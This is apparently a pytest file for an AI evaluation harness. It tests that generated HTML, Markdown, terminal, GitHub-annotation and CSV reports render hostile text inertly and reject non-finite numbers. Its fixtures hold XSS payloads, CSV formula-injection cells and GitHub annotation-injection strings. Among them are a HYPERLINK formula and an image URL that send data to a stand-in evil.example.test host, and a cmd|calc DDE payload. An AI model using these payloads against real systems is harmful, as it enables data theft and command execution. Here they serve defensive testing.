"""Reports, as they went wrong elsewhere; each test is named by its case."""

from __future__ import annotations

import csv
import io
import json
import math
import os
import subprocess
import sys
from collections.abc import Callable, Iterator
from dataclasses import replace
from html.parser import HTMLParser
from pathlib import Path

import click
import pytest
import recorded as rec
from machine import PATIENCE_S
from pydantic import JsonValue, ValidationError
from report_pages import without_script

from harness.cli import main as entry
from harness.cli.ceilings import amount, duration
from harness.cli.options import NumberRange
from harness.cli.output import say_json
from harness.documents import DocumentError, parse_json, parse_toml
from harness.qualification import actor_figures, clopper_pearson, wilson
from harness.qualification.comparing import compare
from harness.qualification.costing import cost_gaps
from harness.qualification.planning import trials_needed
from harness.qualification.sequential import spent
from harness.qualification.several import benjamini_hochberg, holm
from harness.receipt import RunStore
from harness.recording import dump, recording_path, reseal
from harness.redaction import SecretGuard
from harness.reporters import github, html, markdown, terminal
from harness.reporters._csv_text import Cell, csv_text
from harness.schema.actor import ActorIdentity
from harness.schema.base import canonical_json, digest_json, digest_text
from harness.schema.graph import GraphEdge, GraphNode, RuleGraph
from harness.schema.outcome import Outcome
from harness.schema.process import PlaneIdentity
from harness.schema.qualification import Difference, Estimate, Interval
from harness.schema.receipt import Boundary, BoundaryChange, Counters, Finding, Receipt, RedactedText, Step
from harness.schema.recording import Recording
from harness.schema.run import (
    Enforcement,
    EpisodeResult,
    Manifest,
    PlannedEpisode,
    RunLogEntry,
    RunView,
    ScenarioSummary,
)
from harness.transcript import transcript

HOSTILE = (
    '<script>window.pwned=1</script><img src=x onerror="window.pwned=1"><a href="javascript:window.pwned=1">x</a> '
    "</td></tr></table> [md](javascript:alert(1)) ![i](https://evil.example.test/p.png?d=1) "
    "<style>*{display:none}</style>"
)
PLANE = PlaneIdentity(name="toy", version="1")
DIGEST = digest_text("scenario")
EVIL = RedactedText(HOSTILE)
GRAPH = RuleGraph(
    nodes=(GraphNode(facts=(), accepts=False, silence="idle"), GraphNode(facts=("seen",), accepts=True, silence=None)),
    edges=(GraphEdge(source=0, kind="look", target=1), GraphEdge(source=0, kind="leap", code="leapt")),
)


def actor(ref: str) -> ActorIdentity:
    return ActorIdentity(ref=ref, kind="live", provider="openai", model=ref, digest=digest_text(ref))


def receipt(scenario: str, trial: int = 1, ref: str = "openai/m", text: str = "t") -> Receipt:
    """A failure with steps, findings and changes; ``text`` stands wherever a text may."""
    said = RedactedText(text)
    step = Step(ordinal=1, turn=1, tool=said, kind="look", result="succeeded", executed=True, sets=("seen",))
    return Receipt(
        scenario=scenario,
        scenario_digest=DIGEST,
        definition_digest=DIGEST,
        classifier_version=1,
        actor=actor(ref),
        plane=PLANE,
        trial=trial,
        attempt=1,
        outcome=Outcome(status="failed", reason="scenario_violation"),
        verdict="fail",
        cause="model",
        failure_code="leapt",
        findings=(Finding(code="leapt", step=6, check="answer", pointer="/a", expected=said, got=said),),
        facts=("seen",),
        steps=(
            *(replace(step, ordinal=number, turn=number) for number in range(1, 6)),
            replace(step, ordinal=6, turn=6, kind="leap", code="leapt", sets=()),
        ),
        turns=(),
        counters=Counters(model_turns=6, tool_calls=6, executed_calls=6, refused_calls=0),
        boundary=Boundary(
            measured=True, changes=(BoundaryChange(path=said, change="added", by="tool", allowed=False),), unexpected=1
        ),
    )


def log(one: Receipt, problem: str | None = None) -> RunLogEntry:
    return RunLogEntry(key=one.key, started_at="2026-01-01T00:00:00Z", seconds=1.0, executor="cold", problem=problem)


def manifest(receipts: list[Receipt], asks: str = "Look.") -> Manifest:
    names = tuple(dict.fromkeys(one.scenario for one in receipts))
    return Manifest(
        run_id="run-1",
        harness_version="0",
        python="3",
        platform="x",
        created_at="2026-01-01T00:00:00Z",
        finished_at=None,
        state="running",
        scenarios=tuple(ScenarioSummary(id=name, digest=DIGEST, asks=asks, tags=(), graph=GRAPH) for name in names),
        actors=(),
        planes=(PLANE,),
        enforcement=Enforcement(executor="cold"),
        plan=tuple(
            PlannedEpisode(scenario=one.scenario, actor=one.actor.ref, plane=PLANE.ref, trial=one.trial)
            for one in receipts
        ),
        receipts=(),
        verdicts={},
    )


def spoken(text: str, scenario: str = "demo/first", trial: int = 1, ref: str = "openai/m") -> Recording:
    """A recording in which the model says a text."""
    reply: JsonValue = {"choices": [{"message": {"content": text}, "finish_reason": "stop"}]}
    asked: JsonValue = {"messages": [{"role": "user", "content": "Go."}]}
    made = rec.recording([rec.exchange(1, asked, reply)])
    change = {"scenario": scenario, "scenario_digest": DIGEST, "trial": trial, "actor": actor(ref)}
    return reseal(made.model_copy(update={"header": made.header.model_copy(update=change)}))


D010_CELLS = [
    '=HYPERLINK("https://evil.example.test?"&A1,"x")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1)",
    "\t=1",
    "\r=1",
    "\u200b=1",
    " =1",
    "-12.5",
    "-Infinity",
    'a,b"c\nd',
]
D010_NUMBERS = [-12.5, 3]


def test_d010_a_cell_of_text_is_no_formula_and_a_number_stays_one() -> None:
    head = [f"column {number}" for number in range(len(D010_CELLS) + len(D010_NUMBERS))]
    row: dict[str, Cell] = dict(zip(head, [*D010_CELLS, *D010_NUMBERS], strict=True))
    text = csv_text(head, [row])

    found_head, found = csv.reader(io.StringIO(text, newline=""))
    assert found_head == head
    for cell in found[:10]:
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
        shown = cell.lstrip("\u200b\u200c\u200d\u2060\ufeff\ufffd \t\r\n\xa0")
        assert not shown.startswith(("=", "+", "-", "@"))
    assert found[10] == 'a,b"c\nd'
    assert found[11:] == ["-12.5", "3"]
    assert [float(cell) for cell in found[11:]] == D010_NUMBERS


@pytest.mark.parametrize("number", [math.nan, math.inf, -math.inf])
def test_d004_a_number_that_is_none_is_an_error_at_the_source(
    number: float, capsys: pytest.CaptureFixture[str]
) -> None:
    one = receipt("demo/first")
    with pytest.raises(ValidationError, match="finite number"):
        RunLogEntry(key=one.key, started_at="", seconds=number, executor="cold")
    for write in (canonical_json, digest_json, say_json):
        with pytest.raises(ValueError, match="JSON compliant"):
            write({"scores": [1.0, number]})
    assert capsys.readouterr().out == ""


NOT_FINITE = [math.nan, math.inf, -math.inf]


@pytest.mark.parametrize("number", NOT_FINITE)
def test_d004_a_threshold_that_is_no_number_is_refused(number: float) -> None:
    """Else nothing would be beyond it, or all would."""
    figures = [actor_figures("run", name, "live", [], most=1) for name in "ab"]
    refusals: list[Callable[[], object]] = [
        lambda: compare(figures, margin=number),
        lambda: compare(figures, alpha=number),
        lambda: cost_gaps([[], []], alpha=number),
        lambda: trials_needed([0.5], number),
        lambda: trials_needed([number], 0.1),
        lambda: trials_needed([0.5], 0.1, alpha=number),
        lambda: trials_needed([0.5], 0.1, power=number),
        lambda: wilson(1, 2, confidence=number),
        lambda: clopper_pearson(1, 2, confidence=number),
        lambda: holm([number]),
        lambda: benjamini_hochberg([number]),
        lambda: spent(number, 0.05),
    ]
    for refused in refusals:
        with pytest.raises(ValueError, match=r"between 0 and 1|there is no such|share"):
            refused()


def numbers(group: click.Command, path: str = "harness") -> Iterator[tuple[str, click.Parameter]]:
    """Every option of every command that takes a number with a point."""
    for param in group.params:
        if isinstance(param.type, click.types.FloatParamType):
            yield f"{path} {param.opts[0]}", param
    if isinstance(group, click.Group):
        context = click.Context(group)
        for name in group.list_commands(context):
            command = group.get_command(context, name)
            assert command is not None
            yield from numbers(command, f"{path} {name}")


@pytest.mark.parametrize("text", ["nan", "inf", "-inf", "1e999"])
def test_d004_no_option_takes_a_number_that_is_none(text: str) -> None:
    found = dict(numbers(entry._top()))
    assert {"harness compare --margin", "harness wire probe --read-timeout"} <= found.keys()
    for name, param in found.items():
        with pytest.raises(click.BadParameter):
            param.type.convert(text, param, None)
        assert isinstance(param.type, NumberRange), name


@pytest.mark.parametrize("text", ["NaN", "sNaN", "Infinity", "-Infinity", "1e999999"])
def test_d004_no_ceiling_is_a_number_that_is_none(text: str) -> None:
    for read in (amount, duration):
        with pytest.raises(click.BadParameter):
            read(click.Context(click.Command("run")), click.Option(["--ceiling"]), text)


@pytest.mark.parametrize("number", ["nan", "inf", "-inf"])
def test_d004_no_file_of_a_person_holds_a_threshold_that_is_no_number(number: str) -> None:
    with pytest.raises(DocumentError, match="not a finite number"):
        parse_toml(f"[limits]\ndeadline_s = {number}\n")
    for text in ('{"most": NaN}', '{"most": -Infinity}', '{"most": 1e999}'):
        with pytest.raises(DocumentError):
            parse_json(text)


def test_d004_no_rate_and_no_difference_is_a_number_that_is_none() -> None:
    for kind in (Interval, Difference, Estimate):
        fields = dict.fromkeys(kind.model_fields, math.nan)
        with pytest.raises(ValidationError, match="finite number"):
            kind.model_validate(fields)


@pytest.mark.parametrize("token", ["NaN", "Infinity", "-Infinity", "1e999"])
def test_d004_a_recording_of_an_answer_that_is_no_json_is_strict_json_itself(token: str) -> None:
    kept = rec.recorded([(200, {"content-type": "application/json"}, f'{{"score": {token}}}'.encode())], [b"{}"])
    assert (kept[0].response.encoding, kept[0].response.body) == ("utf-8", f'{{"score": {token}}}')

    def refuse(name: str) -> float:
        raise AssertionError(name)

    for line in dump(rec.header(), kept, ()).splitlines():
        json.loads(line, parse_constant=refuse)


class Tags(HTMLParser):
    """Every element of a page with its attributes, and all its text."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str]]] = []
        self.words: list[str] = []
        self.feed(page)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, {name: value or "" for name, value in attrs}))

    def handle_data(self, data: str) -> None:
        self.words.append(data)


@pytest.fixture
def hostile() -> RunView:
    """A run in which the text stands wherever a text may."""
    one = receipt("demo/first", ref=HOSTILE, text=HOSTILE)
    told = transcript(spoken(HOSTILE), HOSTILE, size=1)
    return RunView(
        manifest=manifest([one], asks=HOSTILE),
        receipts=(one,),
        log=(log(one, HOSTILE),),
        transcripts={1: told},
    )


def test_d006_no_element_and_no_attribute_of_the_page_comes_from_a_text(hostile: RunView) -> None:
    page = html.build().render(hostile)
    seen = Tags(page)
    tags = [tag for tag, _ in seen.tags]
    assert (tags.count("style"), {"img", "iframe", "link"} & set(tags)) == (1, set())
    # the page's own: the data, which no browser runs, and what reads it
    assert [found for tag, found in seen.tags if tag == "script"] == [{"type": "text/plain", "id": "packed"}, {}]
    names = {name for _, attributes in seen.tags for name in attributes}
    assert not {name for name in names if name.startswith("on")} | {"src", "style"} & names
    assert all(attributes["href"].startswith("#") for _, attributes in seen.tags if "href" in attributes)
    policy = next(attributes["content"] for _, attributes in seen.tags if "http-equiv" in attributes)
    assert policy.startswith("default-src 'none'; style-src 'sha256-")


def test_d006_the_text_is_shown_as_it_is_in_every_place(hostile: RunView) -> None:
    text = "".join(Tags(without_script(html.build().render(hostile))).words)
    # actor, tool, asks, problem, expected and got, changed path, file name, model's words
    assert text.count(HOSTILE) >= 9
    assert "".join(HOSTILE.split()) in "".join(terminal.build().render(hostile).split())


def test_d006_markdown_holds_the_text_as_code_only(hostile: RunView) -> None:
    page = markdown.build().render(hostile)
    lines = [line for line in page.splitlines() if "<script>" in line]
    assert lines
    for line in lines:
        assert line.startswith("    ") or f"`{HOSTILE}`" in line


def test_d006_a_text_ends_no_annotation_and_begins_none(hostile: RunView) -> None:
    (one,) = hostile.receipts
    sly = hostile.model_copy(update={"log": (log(one, "a\n::error::b\r::set-output name=x::y"),)})
    lines = github.build().render(sly).splitlines()
    assert [line.split(" ")[0] for line in lines] == ["::notice", "::error"]
    assert "%0A" in lines[1]


#: The command line, and then the most memory that it had, in bytes: what its parent had does not count.
MEASURED = """
import pathlib, re, sys
from harness.cli.main import main
code = main(sys.argv[1:])
found = re.search(r"VmHWM:\\s+(\\d+) kB", pathlib.Path("/proc/self/status").read_text())
print(int(found[1]) * 1024, file=sys.stderr)
sys.exit(code)
"""
CASES, TRIALS = 500, 4
TEXT, LARGEST, IMAGE = 200_000, 60_000_000, 1_500_000


@pytest.mark.slow
@pytest.mark.skipif(not Path("/proc/self/status").is_file(), reason="memory is measured on Linux")
def test_d008_a_run_with_large_texts_gives_bounded_reports_and_says_what_is_left_out(tmp_path: Path) -> None:
    folder = tmp_path / "run"
    many = [receipt(f"demo/case-{case:03}", trial) for case in range(CASES) for trial in range(1, TRIALS + 1)]
    with RunStore(folder, manifest(many), SecretGuard([]), sync=False) as store:
        for index, one in enumerate(many):
            store.add(index, EpisodeResult(receipt=one, log=log(one)))
        store.finish("2026-01-01T01:00:00Z")
    texts = {1: "<&>'\"" * (TEXT // 5), 2: "data:image/png;base64," + "A" * IMAGE, 3: "x" * TEXT, 4: "é" * (TEXT // 2)}
    kept = {trial: tmp_path / f"{trial}.jsonl" for trial in texts}
    for trial, path in kept.items():
        made = spoken(texts[trial], trial=trial)
        path.write_bytes(dump(made.header, made.exchanges, ()))
    for number, one in enumerate(many):
        place = recording_path(folder / "recordings", one.scenario, one.actor, one.trial)
        place.parent.mkdir(parents=True, exist_ok=True)
        if number == 0:
            made = spoken("y" * LARGEST)
            place.write_bytes(dump(made.header, made.exchanges, ()))
        else:
            os.link(kept[one.trial], place)
    done = subprocess.run(
        [sys.executable, "-c", MEASURED, "report", str(folder), "--transcripts"],
        capture_output=True,
        timeout=PATIENCE_S,
        check=True,
    )
    shown, peak = done.stdout, int(done.stderr)
    assert b"0 of 2,000 passed, 2,000 failed" in shown
    assert peak < 500_000_000
    sizes = {path.name: path.stat().st_size for path in folder.iterdir() if path.is_file()}
    assert 15_000_000 < sizes["report.html"] <= 20_000_000
    assert sizes["junit.xml"] <= 10_000_000
    assert sizes["summary.md"] <= 1_000_000
    page = (folder / "report.html").read_text("utf-8").replace("<wbr>", "")
    # the table of all episodes is complete, whatever is left out below it
    assert page.count('<th scope="row"><span class="soft">') == len(many)
    first = "recordings/demo/case-000/openai--openai-m"
    assert first in page
    assert "too large to be shown here" in page
    assert "20,000 of 200,000 bytes, whole text in recordings/demo/case-" in page
    assert "20,000 of 1,500,022 bytes, whole text in recordings/demo/case-" in page
    assert "the page has no room left" in page
    # every episode has its card; only conversations are left out
    assert page.count('id="episode-') == len(many)
